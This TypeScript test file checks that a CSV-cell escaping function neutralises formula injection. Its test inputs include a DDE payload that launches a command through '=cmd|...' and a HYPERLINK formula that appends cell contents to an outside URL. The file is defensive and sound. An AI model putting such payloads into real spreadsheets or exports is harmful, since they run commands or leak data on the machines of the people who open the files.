import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { textCell } from './csvCell.ts';

describe('a name in a CSV file', () => {
  it.each([
    ["=cmd|' /C calc'!A1", "'=cmd|' /C calc'!A1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['-2+3', "'-2+3"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    [' =1', "' =1"],
    ['=HYPERLINK("http://x/?"&A1,"x")', `"'=HYPERLINK(""http://x/?""&A1,""x"")"`],
  ])('%j is no formula', (name, cell) => {
    expect(textCell(name)).toBe(cell);
  });

  it.each(['-', '+', '=', '-1', '+0.5', '7', '1e-7', 'ankle boot', '鞋'])(
    '%s stays as it is',
    (name) => {
      expect(textCell(name)).toBe(name);
    },
  );

  it('never begins a line, a cell or a formula of its own', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (name) => {
        const cell = textCell(name);
        const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        expect([name, `'${name}`]).toContain(shown);
        if (!cell.startsWith('"')) expect(cell).not.toMatch(/[",\r\n]/);
        expect(/^\s*[=@]./s.test(shown)).toBe(false);
      }),
    );
  });
});
